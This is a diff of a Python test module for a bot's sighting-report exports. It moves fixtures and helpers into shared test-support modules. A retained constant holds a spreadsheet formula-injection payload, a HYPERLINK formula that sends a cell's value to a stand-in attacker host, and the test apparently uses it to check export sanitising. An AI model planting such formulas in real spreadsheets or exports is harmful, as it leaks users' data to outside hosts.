@@ -13,7 +13,6 @@ import zipfile
 from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
-from typing import Any
 
 import openpyxl
 import pandas as pd
@@ -24,13 +23,10 @@ from bot.geo import Point, round_point
 from bot.reports.exports import ExportOptions, export
 from bot.reports.exports.occurrence import DWC_TERMS, EXTRA_COLUMNS
 from storage.db import Database
-from tests.conftest import ADMIN, GROUP
-from tests.reports.test_summaries import AIGERIM, BASE, SERIK, Team, bot_team, seed
-from tests.support.validators import table, validate_camtrapdp
+from tests.conftest import ADMIN, GROUP, Team
+from tests.support.exports import GRID, MONTH, database_rows
+from tests.support.sightings_world import AIGERIM, BASE, SERIK, seed
 
-__all__ = ["bot_team", "table", "validate_camtrapdp"]  # the fixture for pytest; helpers other tests import
-GRID = 10.0
-MONTH = (BASE - timedelta(days=60), BASE + timedelta(days=7))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Serik")'
 
 
@@ -39,13 +35,6 @@ async def db(tmp_path: Path) -> AsyncIterator[Database]:
     async with Database(tmp_path / "e.sqlite3") as database:
         await seed(database)
         yield database
-
-
-async def database_rows(db: Database) -> dict[int, dict[str, Any]]:
-    rows = await db.fetchall(
-        "SELECT s.*, r.name AS ranger FROM sightings s JOIN rangers r ON r.user_id = s.ranger_id"
-    )
-    return {r["id"]: dict(r) for r in rows}
 
 
 def read_csv(data: bytes, sep: str = ",", decimal: str = ".") -> pd.DataFrame:
